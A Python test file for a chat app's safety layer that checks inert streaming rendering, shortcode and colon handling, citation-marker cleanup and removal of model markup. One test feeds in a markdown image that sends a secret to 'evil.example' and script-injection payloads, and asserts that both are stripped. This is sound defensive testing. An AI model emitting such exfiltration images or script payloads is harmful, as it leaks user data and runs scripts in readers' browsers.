"""The app's streaming render is linear in the answer's length and shows exactly what `inert` would;
icon and emoji shortcodes show as typed; a model's markup is taken out of what leaves as data."""

import random

import pytest

from coach.answer.model import check_citations
from coach.safety import WORD_JOINER, InertStream, inert, neutralise
from ui.chat import render_stream

TRICKY = "See http://x.y/z and www.example.com, :material/warning: $5 <b>[1]</b> ![i](u)\n:smile: at 10:30:00 end "


@pytest.mark.parametrize("seed", range(20))
def test_pieces_made_inert_one_by_one_give_exactly_the_whole_made_inert(seed):
    rng = random.Random(seed)
    text = TRICKY * 30
    stream, start = InertStream(), 0
    while start < len(text):
        end = start + rng.randint(1, 12)
        stream.add(text[start:end])
        if rng.random() < 0.2:
            assert stream.markdown() == inert(text[:end])
        start = end
    assert stream.markdown() == inert(text)


def test_a_stream_is_rendered_at_most_once_per_interval_and_once_at_the_end():
    clock = iter(step * 0.01 for step in range(100_000))  # each reading of the clock: 10 ms later
    shown: list[str] = []
    pieces = ["word "] * 2000
    assert render_stream(iter(pieces), shown.append, interval=0.1, clock=lambda: next(clock))
    assert len(shown) < 2000 / 4  # the old way rendered once per piece
    assert shown[-1] == inert("".join(pieces))


def test_no_tokens_means_nothing_shown():
    shown: list[str] = []
    assert not render_stream(iter([]), shown.append)
    assert shown == []


@pytest.mark.parametrize("code", [":material/warning:", ":smile:", ":streamlit:", ":+1:"])
def test_icon_and_emoji_shortcodes_show_as_typed(code):
    rendered = inert(f"Look {code} here")
    assert code not in rendered and rendered.replace(WORD_JOINER, "") == f"Look {code} here"


def test_times_and_ratios_keep_their_colons():
    assert inert("at 10:30:00, ratio 1:2") == "at 10:30:00, ratio 1:2"


def test_neutralise_takes_out_images_links_and_html_and_says_so():
    text, changed = neutralise(
        'A ![x](http://evil.example/leak.png?q=SECRET) b <img src=x onerror="alert(1)"> '
        "<script>alert(1)</script>c [the guide](http://evil.example/) d <!-- hidden --> e"
    )
    assert changed and text == "A x b c the guide d e"
    assert neutralise("Plain text, a < b and 3 > 2 [1].") == ("Plain text, a < b and 3 > 2 [1].", False)


@pytest.mark.parametrize(
    ("text", "expected", "cited", "removed"),
    [
        ("A [1] b [100].", "A [1] b.", [1], 1),
        ("A [1,7] b [ 7 ].", "A [1] b.", [1], 2),
        ("A [07] b [01] c [^2] d 【3†source】.", "A b [1] c [2] d [3].", [1, 2, 3], 1),
        ("A [1-3] b [2; 9].", "A [1][2][3] b [2].", [1, 2, 3], 1),
    ],
)
def test_citation_markers_of_any_shape_are_checked(text, expected, cited, removed):
    assert check_citations(text, 3) == (expected, cited, removed)
